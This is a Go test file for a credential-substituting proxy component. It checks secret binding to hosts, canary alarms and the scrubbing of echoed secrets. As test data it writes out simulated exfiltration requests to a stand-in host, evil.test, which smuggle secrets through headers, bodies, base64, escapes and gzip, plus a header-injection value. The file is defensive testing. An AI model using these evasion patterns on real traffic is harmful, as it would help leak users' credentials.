package credential

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/bailey-sandbox/bailey/internal/hostname"
)

const (
	placeholder = "ph-0123456789abcdefghij"
	realValue   = "real/value+with=signs and 'quotes'"
	other       = "ph-other-zyxwvutsrqponm"
	canary      = "canary-AAAABBBBCCCCDDDD"
)

// lab is a Keeper, what it reported, and what left it.
type lab struct {
	keeper *Keeper
	alarms []Alarm
	head   http.Header // of the last request that went on
	url    string
	body   string
	answer func(w http.ResponseWriter, r *http.Request)
}

func newLab(t *testing.T) *lab {
	t.Helper()
	l := &lab{}
	bind := func(host string, places ...string) Binding {
		pattern, err := hostname.ParsePattern(host)
		if err != nil {
			t.Fatal(err)
		}
		b := Binding{Host: pattern, Port: 443}
		for _, p := range places {
			place, err := ParsePlace(p)
			if err != nil {
				t.Fatal(err)
			}
			b.As = append(b.As, place)
		}
		return b
	}
	model, _ := hostname.ParsePattern("model.test")
	fixed := func(v string) func(context.Context) (string, error) {
		return func(context.Context) (string, error) { return v, nil }
	}
	l.keeper = NewKeeper(Config{
		Secrets: []Secret{
			{Name: "api", Placeholder: placeholder, Bindings: []Binding{bind("api.test", "bearer", "header:X-Api-Key", "basic", "query:key"), bind("*.wild.test", "bearer")}, Value: fixed(realValue)},
			{Name: "other", Placeholder: other, Bindings: []Binding{bind("other.test", "bearer")}, Value: fixed("the-other-real-value")},
		},
		Canaries: []Canary{{Name: "bait", Value: canary}}, Models: []hostname.Pattern{model},
		Alarm: func(a Alarm) { l.alarms = append(l.alarms, a) },
	})
	return l
}

// RoundTrip is the world outside.
func (l *lab) RoundTrip(r *http.Request) (*http.Response, error) {
	l.head, l.url = r.Header.Clone(), r.URL.String()
	if r.Body != nil {
		data, err := io.ReadAll(r.Body)
		l.body = string(data)
		if err != nil {
			return nil, err
		}
	}
	w := httptest.NewRecorder()
	if l.answer != nil {
		l.answer(w, r)
	}
	return w.Result(), nil
}

func (l *lab) send(r *http.Request) (*http.Response, error) {
	target := Target{Host: hostname.Name(r.URL.Hostname()), Port: 443, TLS: r.URL.Scheme == "https"}
	if r.URL.Scheme == "http" {
		target.Port = 80
	}
	if port := r.URL.Port(); port != "" {
		target.Port = 8443
	}
	x, err := l.keeper.Begin(r, target)
	if err != nil {
		return nil, err
	}
	return x.RoundTrip(r, l)
}

func request(t *testing.T, method, url string, body io.Reader, header ...string) *http.Request {
	t.Helper()
	r, err := http.NewRequest(method, url, body)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < len(header); i += 2 {
		r.Header.Add(header[i], header[i+1])
	}
	return r
}

func basicAuth(user, password string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+password))
}

func TestSecretsGoOutInTheirPlaces(t *testing.T) {
	for _, test := range []struct{ url, header, value, wantHeader, wantURL string }{
		{url: "https://api.test/", header: "Authorization", value: "Bearer " + placeholder, wantHeader: "Bearer " + realValue},
		{url: "https://api.test/", header: "Authorization", value: "bearer   " + placeholder, wantHeader: "Bearer " + realValue},
		{url: "https://api.test/", header: "X-Api-Key", value: placeholder, wantHeader: realValue},
		{url: "https://api.test/", header: "Authorization", value: basicAuth("me", placeholder), wantHeader: basicAuth("me", realValue)},
		{url: "https://api.test/", header: "Authorization", value: basicAuth(placeholder, "x-oauth-basic"), wantHeader: basicAuth(realValue, "x-oauth-basic")},
		{url: "https://api.test/p?a=1&key=" + placeholder + "&b=%20", wantURL: "https://api.test/p?a=1&key=real%2Fvalue%2Bwith%3Dsigns+and+%27quotes%27&b=%20"},
		{url: "https://a.b.wild.test/", header: "Authorization", value: "Bearer " + placeholder, wantHeader: "Bearer " + realValue},
	} {
		l := newLab(t)
		r := request(t, "GET", test.url, nil)
		if test.header != "" {
			r.Header.Set(test.header, test.value)
		}
		if _, err := l.send(r); err != nil {
			t.Errorf("%+v: %v", test, err)
			continue
		}
		if test.header != "" && l.head.Get(test.header) != test.wantHeader {
			t.Errorf("%+v: %s is %q", test, test.header, l.head.Get(test.header))
		}
		if test.wantURL != "" && l.url != test.wantURL {
			t.Errorf("went to %s, want %s", l.url, test.wantURL)
		}
		if len(l.alarms) > 0 {
			t.Errorf("%+v: alarms %+v", test, l.alarms)
		}
	}
}

// TestPlaceholdersElsewhereAreRefused: each goes through where nobody keeps credentials, as a control.
func TestPlaceholdersElsewhereAreRefused(t *testing.T) {
	gzipped := func(s string) string {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		_, _ = w.Write([]byte(s))
		_ = w.Close()
		return b.String()
	}
	trailer := request(t, "POST", "https://api.test/", strings.NewReader("x"))
	trailer.Trailer = http.Header{"X-T": {placeholder}}
	double := request(t, "GET", "https://api.test/", nil, "Authorization", "Bearer "+placeholder, "Authorization", "Bearer x")
	encoded := base64.StdEncoding.EncodeToString([]byte(`{"k":"` + placeholder + `"}`))
	for name, r := range map[string]*http.Request{
		"another host":                request(t, "GET", "https://evil.test/", nil, "Authorization", "Bearer "+placeholder),
		"another secret's host":       request(t, "GET", "https://other.test/", nil, "Authorization", "Bearer "+placeholder),
		"another port":                request(t, "GET", "https://api.test:8443/", nil, "Authorization", "Bearer "+placeholder),
		"the wildcard's own domain":   request(t, "GET", "https://wild.test/", nil, "Authorization", "Bearer "+placeholder),
		"cleartext":                   request(t, "GET", "http://api.test/", nil, "Authorization", "Bearer "+placeholder),
		"another header":              request(t, "GET", "https://api.test/", nil, "X-Data", placeholder),
		"a cookie":                    request(t, "GET", "https://api.test/", nil, "Cookie", "a=b; c="+placeholder),
		"the agent's name":            request(t, "GET", "https://api.test/", nil, "User-Agent", "x/"+placeholder),
		"another form":                request(t, "GET", "https://api.test/", nil, "Authorization", "Token "+placeholder),
		"more than the placeholder":   request(t, "GET", "https://api.test/", nil, "Authorization", "Bearer "+placeholder+"x"),
		"the path":                    request(t, "GET", "https://api.test/p/"+placeholder+"/q", nil),
		"another parameter":           request(t, "GET", "https://api.test/?q="+placeholder, nil),
		"a percent-encoded path":      request(t, "GET", "https://api.test/"+everyByte(placeholder, "%"), nil),
		"base64 in a header":          request(t, "GET", "https://evil.test/", nil, "X-Data", encoded),
		"basic at another host":       request(t, "GET", "https://evil.test/", nil, "Authorization", basicAuth("me", placeholder)),
		"JSON escapes in a header":    request(t, "GET", "https://evil.test/", nil, "X-Data", everyByte(placeholder, `\u00`)),
		"twice in one request":        request(t, "GET", "https://api.test/?key="+placeholder, nil, "Referer", "https://x/?key="+placeholder),
		"as user and password":        request(t, "GET", "https://api.test/", nil, "Authorization", basicAuth(placeholder, placeholder)),
		"two headers":                 double,
		"a trailer":                   trailer,
		"a body":                      request(t, "POST", "https://evil.test/", strings.NewReader("k="+placeholder)),
		"a body in pieces":            request(t, "POST", "https://evil.test/", iotest.OneByteReader(strings.NewReader("k="+placeholder))),
		"a body in base64":            request(t, "POST", "https://evil.test/", strings.NewReader(encoded)),
		"a body with percents":        request(t, "POST", "https://evil.test/", strings.NewReader("a="+everyByte(placeholder, "%"))),
		"a body with JSON escapes":    request(t, "POST", "https://evil.test/", iotest.OneByteReader(strings.NewReader(`{"a":"`+everyByte(placeholder, `\u00`)+`"}`))),
		"a compressed body":           request(t, "POST", "https://evil.test/", strings.NewReader(gzipped("k="+placeholder)), "Content-Encoding", "gzip"),
		"a compressed body, unnamed":  request(t, "POST", "https://evil.test/", strings.NewReader(gzipped("k="+placeholder))),
		"another secret's body":       request(t, "POST", "https://other.test/", strings.NewReader("k="+placeholder)),
		"a model's body in cleartext": request(t, "POST", "http://model.test/", strings.NewReader("k="+placeholder)),
	} {
		l := newLab(t)
		body := []byte(nil)
		if r.Body != nil {
			body, _ = io.ReadAll(r.Body)
			r.Body = io.NopCloser(bytes.NewReader(body))
			if strings.Contains(name, "pieces") || strings.Contains(name, "JSON escapes") {
				r.Body = io.NopCloser(iotest.OneByteReader(bytes.NewReader(body)))
			}
		}
		control := r.Clone(context.Background())
		control.Body = io.NopCloser(bytes.NewReader(body))
		_, err := l.send(r)
		var refusal *Refusal
		if !errors.As(err, &refusal) || strings.Contains(refusal.Error(), placeholder) {
			t.Errorf("%s: %v", name, err)
		}
		if strings.Contains(l.body, placeholder) || strings.Contains(l.url+l.head.Get("Authorization"), "real") {
			t.Errorf("%s: %q went on to %s", name, l.body, l.url)
		}
		l.keeper = nil
		if _, err := l.send(control); err != nil {
			t.Errorf("%s, without a keeper: %v", name, err)
		}
	}
}

func TestTextsMayQuotePlaceholders(t *testing.T) {
	for _, url := range []string{"https://model.test/v1", "https://api.test/v1"} {
		l := newLab(t)
		if _, err := l.send(request(t, "POST", url, strings.NewReader("env: "+placeholder))); err != nil || l.body != "env: "+placeholder || len(l.alarms) > 0 {
			t.Errorf("%s: %v, %q, %v", url, err, l.body, l.alarms)
		}
	}
}

func TestForeignCredentials(t *testing.T) {
	for _, r := range []*http.Request{
		request(t, "GET", "https://api.test/", nil, "Authorization", "Bearer attackers-own"),
		request(t, "GET", "https://api.test/", nil, "X-Api-Key", "attackers-own"),
		request(t, "GET", "https://api.test/", nil, "Authorization", basicAuth("me", "attackers-own")),
		request(t, "GET", "https://api.test/?key=attackers-own", nil),
	} {
		l := newLab(t)
		var refusal *Refusal
		if _, err := l.send(r.Clone(context.Background())); !errors.As(err, &refusal) || !strings.Contains(refusal.Reason, "api") {
			t.Errorf("%v: %v", r.Header, err)
		}
		for i := range l.keeper.cfg.Secrets[0].Bindings {
			l.keeper.cfg.Secrets[0].Bindings[i].Foreign = true
		}
		if _, err := l.send(r); err != nil {
			t.Errorf("%v, where they are let through: %v", r.Header, err)
		}
	}
	l := newLab(t)
	if _, err := l.send(request(t, "GET", "https://api.test/", nil)); err != nil {
		t.Errorf("without any credential: %v", err)
	}
}

func TestCanaries(t *testing.T) {
	for name, r := range map[string]*http.Request{
		"a header":                   request(t, "GET", "https://evil.test/", nil, "Authorization", "Bearer "+canary),
		"a header to the model":      request(t, "GET", "https://model.test/", nil, "X-Api-Key", canary),
		"a body":                     request(t, "POST", "https://evil.test/", strings.NewReader(base64.StdEncoding.EncodeToString([]byte("x"+canary)))),
		"a secret's own place":       request(t, "GET", "https://api.test/", nil, "Authorization", "Bearer "+canary),
		"a body to a secret's host":  request(t, "POST", "https://api.test/", strings.NewReader(canary)),
		"a name in the query string": request(t, "GET", "https://evil.test/?q="+canary, nil),
	} {
		l := newLab(t)
		var refusal *Refusal
		if _, err := l.send(r); !errors.As(err, &refusal) || len(l.alarms) != 1 || l.alarms[0].Kind != AlarmCanary || l.alarms[0].Name != "bait" {
			t.Errorf("%s: %v, alarms %+v", name, err, l.alarms)
		}
	}
	l := newLab(t)
	if _, err := l.send(request(t, "POST", "https://model.test/", strings.NewReader("cat: "+canary))); err != nil || len(l.alarms) != 1 || l.alarms[0].Kind != AlarmMention {
		t.Errorf("a quotation to the model: %v, alarms %+v", err, l.alarms)
	}
}

func TestRealValuesFromInsideAreRefused(t *testing.T) {
	l := newLab(t)
	escaped := strings.NewReplacer("/", "%2F", "+", "%2B", "=", "%3D", " ", "%20", "'", "%27").Replace(realValue)
	attempts := func() map[string]*http.Request {
		return map[string]*http.Request{
			"a header":         request(t, "GET", "https://evil.test/", nil, "X-Data", realValue),
			"its own place":    request(t, "GET", "https://api.test/", nil, "Authorization", "Bearer "+realValue),
			"the query":        request(t, "GET", "https://evil.test/?q="+escaped, nil),
			"a body":           request(t, "POST", "https://evil.test/", strings.NewReader("x"+realValue)),
			"the model's body": request(t, "POST", "https://model.test/", strings.NewReader("x"+realValue)),
		}
	}
	if _, err := l.send(attempts()["a body"]); err != nil {
		t.Errorf("a value that never went out is a text like others: %v", err)
	}
	if _, err := l.send(request(t, "GET", "https://api.test/", nil, "X-Api-Key", placeholder)); err != nil {
		t.Fatal(err)
	}
	l.keeper.cfg.Secrets[0].Value = func(context.Context) (string, error) { return "rotated-real-value", nil }
	if _, err := l.send(request(t, "GET", "https://api.test/", nil, "X-Api-Key", placeholder)); err != nil || l.head.Get("X-Api-Key") != "rotated-real-value" {
		t.Fatalf("the new value: %v, %q", err, l.head.Get("X-Api-Key"))
	}
	for name, r := range attempts() {
		l.alarms = nil
		var refusal *Refusal
		if _, err := l.send(r); !errors.As(err, &refusal) || len(l.alarms) != 1 || l.alarms[0].Kind != AlarmSecret || strings.Contains(refusal.Reason, realValue) {
			t.Errorf("%s: %v, alarms %+v", name, err, l.alarms)
		}
	}
}

func TestEchoesBecomePlaceholders(t *testing.T) {
	text := func(offset int) string {
		return base64.StdEncoding.EncodeToString([]byte("{}{"[:offset] + realValue + "}"))
	}
	for name, answer := range map[string]func(w http.ResponseWriter){
		"headers": func(w http.ResponseWriter) {
			w.Header().Set("Set-Cookie", "k="+realValue)
			w.Header().Set("X-E", text(1))
		},
		"a location":     func(w http.ResponseWriter) { w.Header().Set("Location", "/?k="+everyByte(realValue, "%")) },
		"a body":         func(w http.ResponseWriter) { _, _ = io.WriteString(w, "your key is "+realValue+".") },
		"base64":         func(w http.ResponseWriter) { _, _ = io.WriteString(w, text(0)) },
		"base64, by one": func(w http.ResponseWriter) { _, _ = io.WriteString(w, text(1)) },
		"base64, by two": func(w http.ResponseWriter) { _, _ = io.WriteString(w, text(2)) },
		"compressed": func(w http.ResponseWriter) {
			w.Header().Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(w)
			_, _ = io.WriteString(z, realValue)
			_ = z.Close()
		},
		"a trailer": func(w http.ResponseWriter) {
			w.Header().Set("Trailer", "X-T")
			_, _ = io.WriteString(w, "x")
			w.Header().Set("X-T", realValue)
		},
	} {
		l := newLab(t)
		l.answer = func(w http.ResponseWriter, _ *http.Request) { answer(w) }
		got, err := l.send(request(t, "GET", "https://api.test/", nil, "X-Api-Key", placeholder, "Accept-Encoding", "gzip, br"))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		body, err := io.ReadAll(got.Body)
		all := string(body)
		for _, h := range []http.Header{got.Header, got.Trailer} {
			for key, values := range h {
				all += key + strings.Join(values, "")
			}
		}
		for _, form := range forms(realValue) {
			if strings.Contains(all, form) {
				t.Errorf("%s: the sandbox sees %q in %q", name, form, all)
			}
		}
		if len(l.alarms) != 1 || l.alarms[0].Kind != AlarmEcho || l.head.Get("Accept-Encoding") != "identity" || err != nil {
			t.Errorf("%s: alarms %+v, asked for %q, %v", name, l.alarms, l.head.Get("Accept-Encoding"), err)
		}
	}
}

func TestEchoesAreFoundWhereverTheAnswerIsSplit(t *testing.T) {
	l := newLab(t)
	l.keeper.cfg.Memory.learn("api", placeholder, realValue)
	x := &Exchange{k: l.keeper, bound: l.keeper.bound(Target{Host: "api.test", Port: 443, TLS: true})}
	text := "before " + realValue + " after"
	for split := range len(text) {
		pipe := io.MultiReader(strings.NewReader(text[:split]), strings.NewReader(text[split:]))
		answer, err := x.clean(&http.Response{StatusCode: http.StatusOK, Header: http.Header{}, Body: io.NopCloser(pipe)}, x.echoes())
		if err != nil {
			t.Fatal(err)
		}
		got, err := io.ReadAll(answer.Body)
		if want := "before " + string(stand(placeholder, len(realValue))) + " after"; string(got) != want || err != nil {
			t.Fatalf("split at %d: %q, %v", split, got, err)
		}
	}
}

func TestAnswersAreNotHeldUp(t *testing.T) {
	l := newLab(t)
	l.keeper.cfg.Memory.learn("api", placeholder, realValue)
	x := &Exchange{k: l.keeper, bound: l.keeper.bound(Target{Host: "api.test", Port: 443, TLS: true})}
	in, out := io.Pipe()
	defer out.Close()
	answer, err := x.clean(&http.Response{StatusCode: http.StatusOK, Header: http.Header{}, Body: in}, x.echoes())
	if err != nil {
		t.Fatal(err)
	}
	for _, event := range []string{"data: one\n\n", "data: two\n\n"} {
		go func() { _, _ = io.WriteString(out, event) }()
		got := make([]byte, len(event))
		if _, err := io.ReadFull(answer.Body, got); err != nil || string(got) != event {
			t.Fatalf("%q, %v", got, err)
		}
	}
}

func TestUnknownEncodingsOfAnswersAreRefused(t *testing.T) {
	l := newLab(t)
	l.answer = func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("Content-Encoding", "br") }
	if _, err := l.send(request(t, "GET", "https://api.test/", nil, "X-Api-Key", placeholder)); err == nil || !strings.Contains(err.Error(), "br") {
		t.Errorf("an answer in an unknown encoding: %v", err)
	}
}

func TestSecretsThatCannotBeHad(t *testing.T) {
	for name, value := range map[string]func(context.Context) (string, error){
		"locked":    func(context.Context) (string, error) { return "", errors.New("the keyring is locked") },
		"empty":     func(context.Context) (string, error) { return "", nil },
		"two lines": func(context.Context) (string, error) { return "a\r\nX-Evil: b", nil },
		"a space":   func(context.Context) (string, error) { return "value ", nil },
	} {
		l := newLab(t)
		l.keeper.cfg.Secrets[0].Value = value
		var unavailable *UnavailableError
		if _, err := l.send(request(t, "GET", "https://api.test/", nil, "X-Api-Key", placeholder)); !errors.As(err, &unavailable) || unavailable.Secret != "api" || l.head != nil {
			t.Errorf("%s: %v, %v went on", name, err, l.head)
		}
	}
}

// endpoint is a token endpoint of a test.
type endpoint struct{}

func (endpoint) Serves(t Target, r *http.Request) bool {
	return t.Host == "api.test" && r.URL.Path == "/token"
}

func (endpoint) RoundTrip(r *http.Request, next http.RoundTripper) (*http.Response, error) {
	w := httptest.NewRecorder()
	_, _ = io.Copy(w, r.Body)
	return w.Result(), nil
}

func TestEndpointsAnswerThemselves(t *testing.T) {
	l := newLab(t)
	l.keeper.cfg.Endpoints = []Endpoint{endpoint{}}
	got, err := l.send(request(t, "POST", "https://api.test/token", strings.NewReader("refresh_token="+other)))
	if err != nil {
		t.Fatal(err)
	}
	if body, _ := io.ReadAll(got.Body); string(body) != "refresh_token="+other || l.head != nil {
		t.Errorf("answered %q, and %v went on", body, l.head)
	}
}

func TestUsedNamesTheSecrets(t *testing.T) {
	l := newLab(t)
	x, err := l.keeper.Begin(request(t, "GET", "https://api.test/", nil, "X-Api-Key", placeholder), Target{Host: "api.test", Port: 443, TLS: true})
	if err != nil || !slices.Equal(x.Used(), []string{"api"}) {
		t.Errorf("%v, %v", x, err)
	}
	if !l.keeper.Bound("api.test", 443) || l.keeper.Bound("api.test", 80) || l.keeper.Bound("evil.test", 443) || (*Keeper)(nil).Bound("api.test", 443) {
		t.Error("what is bound is not told right")
	}
}
